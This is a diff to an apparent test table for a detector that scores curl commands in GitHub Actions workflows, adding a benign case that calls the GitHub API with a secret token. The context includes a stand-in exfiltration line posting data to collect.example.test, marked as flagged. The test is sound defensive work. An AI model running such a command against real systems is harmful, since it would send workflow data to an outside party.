@@ -5,6 +5,7 @@ test.each([
   ['curl -d "$DATA" https://collect.example.test', 1],
   ['curl -H "Authorization: Bearer ${{ secrets.T }}" https://api.github.com/repos', 0],
   ['curl -H "Authorization: Bearer ${{ secrets.T }}" ${{ github.api_url }}/repos', 0],
+  ['curl -H "Authorization: Bearer ${{ secrets.T }}" "https://api.github.com/repos/$GITHUB_REPOSITORY/pulls"', 0],
   ['curl -X POST -d "{}" ${{ secrets.WEBHOOK }}', 0],
   ['curl -X POST -d "{}" "$HOOK"', 0],
   ['curl https://example.test', 0],
